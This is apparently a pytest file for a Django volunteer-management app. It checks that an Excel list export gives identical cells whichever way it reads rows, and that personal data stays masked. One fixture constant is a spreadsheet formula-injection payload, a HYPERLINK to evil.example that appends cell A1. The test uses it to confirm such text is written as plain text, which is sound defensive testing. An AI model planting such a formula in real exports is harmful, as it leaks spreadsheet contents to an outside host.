"""The list export's two ways of reading rows give the same sheet.

``table_export`` reads ``values_list`` tuples when every column can say which database values it is made of,
and model instances otherwise. Each test writes both and compares every cell as Excel reads it back (value,
type and number format), for each kind of column, a masked one and one that needs the row object.
"""

import datetime as dt
import io
from decimal import Decimal

import django_tables2 as tables
import pytest
from openpyxl import load_workbook

from stations.models import Station
from stations.tables import StationTable
from volunteers.models import ServiceHours, Volunteer, VolunteerActivity
from volunteers.tables import ServiceHoursTable, VolunteerActivityTable, VolunteerTable
from volunteers.testing import make_activity, make_hours, make_volunteer
from wulian.exports import export_as_str, reads_values, table_export, write_workbook
from wulian.tables import ObjectTable

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
SHANGHAI_MIDNIGHT = dt.datetime(2023, 6, 30, 16, 30, tzinfo=dt.UTC)  # 2023-07-01 00:30 in Asia/Shanghai

pytestmark = pytest.mark.django_db


def sheet(table, queryset, use_values: bool, tmp_path) -> list[list[tuple]]:
    """The written sheet as (value, type, number format) per cell, header row included."""
    columns, rows = table_export(table, queryset, use_values=use_values)
    path = tmp_path / f"{use_values}.xlsx"
    write_workbook(str(path), [("导出", columns, rows)])
    ws = load_workbook(io.BytesIO(path.read_bytes())).worksheets[0]
    return [[(c.value, c.data_type, c.number_format) for c in row] for row in ws.iter_rows()]


def both(table, queryset, tmp_path) -> list[list[tuple]]:
    """Both paths' sheets, asserted identical; the values path's rows as {header: value} dicts."""
    by_values = sheet(table, queryset, True, tmp_path)
    by_objects = sheet(table, queryset, False, tmp_path)
    assert by_values == by_objects
    assert len(by_values) == queryset.count() + 1
    header = [value for value, _, _ in by_values[0]]
    return [dict(zip(header, row, strict=True)) for row in by_values[1:]]


class HoursTable(ObjectTable):
    """Every kind of column the values path resolves, over service hours."""

    record = tables.Column(verbose_name="记录", accessor="pk")
    title = tables.Column(verbose_name="活动", accessor="activity__title")
    date = tables.Column(verbose_name="日期", accessor="activity__date")
    start = tables.Column(verbose_name="开始", accessor="activity__start_time")
    volunteer = tables.Column(verbose_name="志愿者")  # a foreign key: its row's name
    community = tables.Column(verbose_name="社区", accessor="volunteer__community")  # two links away
    id_number = tables.Column(verbose_name="证件号码", accessor="volunteer__id_number")  # masked by ObjectTable
    phone = tables.Column(verbose_name="电话", accessor="volunteer__phone")  # masked by ObjectTable
    id_type = tables.Column(verbose_name="证件类型", accessor="volunteer__id_type")  # choices, two links away
    registered = tables.Column(verbose_name="注册", accessor="volunteer__registered_on")
    count = tables.Column(verbose_name="序号", accessor="pk")

    class Meta(ObjectTable.Meta):
        model = ServiceHours
        fields = ("record", "title", "date", "start", "volunteer", "community", "id_number", "phone", "id_type",
                  "hours", "status", "source", "checked_in_at", "checked_out_at", "registered", "count")
        sequence = fields

    value_record = export_as_str

    def value_title(self, value):  # a method of the value alone: applied to the database value
        return f"《{value}》"


@pytest.fixture
def hours(cast):
    wang = make_volunteer(cast.binhe, name="王芳", id_number="11010119900307123X", phone="13812345678",
                          registered_on=dt.date(2023, 3, 1))
    formula = make_volunteer(cast.binhe, name=FORMULA, skills="")
    visit = make_activity(cast.binhe, title="敬老院探访", date=dt.date(2023, 6, 30), start_time=dt.time(8, 30))
    clean = make_activity(cast.binhe, title="=1+1 清洁家园", date=dt.date(1899, 12, 1))
    make_hours(visit, wang, hours="2.50", checked_in_at=SHANGHAI_MIDNIGHT)
    make_hours(visit, formula, hours="0.25", status="pending", source="self")
    make_hours(clean, wang, hours=None)
    return ServiceHours.objects.filter(volunteer__community=cast.binhe).order_by("pk")


def test_every_kind_of_column_gives_the_same_cells_by_values(hours, cast, tmp_path, django_assert_num_queries):
    table = HoursTable(hours, user=cast.user_bureau)
    assert reads_values(table, hours)
    rows = both(table, hours, tmp_path)
    first = rows[0]
    assert first["记录"] == ("敬老院探访：王芳", "s", "General")
    assert first["活动"][0] == "《敬老院探访》"
    assert first["志愿者"][0] == "王芳" and first["社区"][0] == "滨河社区"
    assert first["证件号码"][0] == "110101********123X" and first["电话"][0] == "138****5678"
    assert first["证件类型"][0] == "居民身份证"
    assert first["状态"][0] == "已确认"
    assert first["时长（小时）"][:2] == (2.5, "n")
    assert first["日期"][:2] == (dt.datetime(2023, 6, 30), "d")
    assert first["开始"][0] == dt.time(8, 30)
    assert first["签到时间"][0] == dt.datetime(2023, 7, 1, 0, 30)  # Asia/Shanghai
    assert first["签退时间"][0] is None
    assert rows[1]["志愿者"][:2] == (FORMULA, "s")  # text, never a formula
    assert rows[2]["记录"][0] == "=1+1 清洁家园：王芳" and rows[2]["时长（小时）"][0] is None
    assert rows[2]["日期"][:2] == ("1899-12-01", "s")  # before Excel's calendar: text, as the object path writes
    # One query whatever the columns reach through foreign keys, and no row object built.
    columns, rows_iter = table_export(table, hours)
    with django_assert_num_queries(1):
        assert len(list(rows_iter)) == 3


def test_a_masked_column_stays_masked_and_an_unmasked_export_shows_it_by_both_paths(hours, cast, tmp_path):
    table = HoursTable(hours, user=cast.user_bureau)
    masked = both(table, hours, tmp_path)
    assert {row["证件号码"][0] for row in masked if row["志愿者"][0] == "王芳"} == {"110101********123X"}
    assert "11010119900307123X" not in str(masked)
    table.reveal_personal_data = True
    revealed = both(table, hours, tmp_path)
    assert revealed[0]["证件号码"][0] == "11010119900307123X" and revealed[0]["电话"][0] == "13812345678"


def test_the_list_tables_give_the_same_cells_by_values(hours, cast, tmp_path):
    table = ServiceHoursTable(hours, user=cast.user_bureau)
    assert reads_values(table, hours)
    assert both(table, hours, tmp_path)[0]["记录"][0] == "敬老院探访：王芳"

    volunteers = Volunteer.objects.filter(community=cast.binhe).order_by("pk")
    table = VolunteerTable(volunteers, user=cast.user_bureau)
    assert reads_values(table, volunteers)
    rows = both(table, volunteers, tmp_path)
    assert rows[0]["证件号码"][0] == "110101********123X" and rows[0]["注册日期"][0] == dt.datetime(2023, 3, 1)


def test_booleans_numbers_and_empty_dates_by_values(cast, tmp_path):
    Station.objects.create(name="滨河社区社工室", tier="community_room", region=cast.binhe,
                           office_area=Decimal("45.5"), is_pilot=True, opened_on=dt.date(2020, 5, 1))
    Station.objects.create(name="景贤社区社工室", tier="community_room", region=cast.jingxian)

    class PlainStationTable(ObjectTable):
        class Meta(ObjectTable.Meta):
            model = Station
            fields = ("name", "tier", "region", "office_area", "desks", "is_pilot", "has_office", "opened_on")

    stations = Station.objects.order_by("name")
    table = PlainStationTable(stations, user=cast.user_bureau)
    assert reads_values(table, stations)
    rows = {row["名称"][0]: row for row in both(table, stations, tmp_path)}
    assert rows["滨河社区社工室"]["试点"][0] == "是" and rows["景贤社区社工室"]["试点"][0] == "否"
    assert rows["滨河社区社工室"]["办公面积（平方米）"][:2] == (45.5, "n")
    assert rows["景贤社区社工室"]["建成时间"][0] is None


def test_a_column_that_needs_the_row_object_falls_back_to_objects(cast, tmp_path):
    make_activity(cast.binhe, title="敬老院探访", organiser_name="滨河社区社工室")
    activities = VolunteerActivity.objects.order_by("pk")
    table = VolunteerActivityTable(activities, user=cast.user_bureau)  # its organiser reads the record
    assert not reads_values(table, activities)
    rows = both(table, activities, tmp_path)
    assert rows[0]["组织单位"][0]

    Station.objects.create(name="滨河社区社工室", tier="community_room", region=cast.binhe)
    stations = Station.objects.order_by("pk")
    assert not reads_values(StationTable(stations, user=cast.user_bureau), stations)  # its compliance column


def test_a_str_that_is_not_made_of_fields_falls_back():
    from wulian.exports import _str_parts
    from wulian.models import User

    assert _str_parts(User) is None  # ``full or self.username``: only Python can say
    assert _str_parts(ServiceHours) == (("activity__title",), "：", ("volunteer__name",))
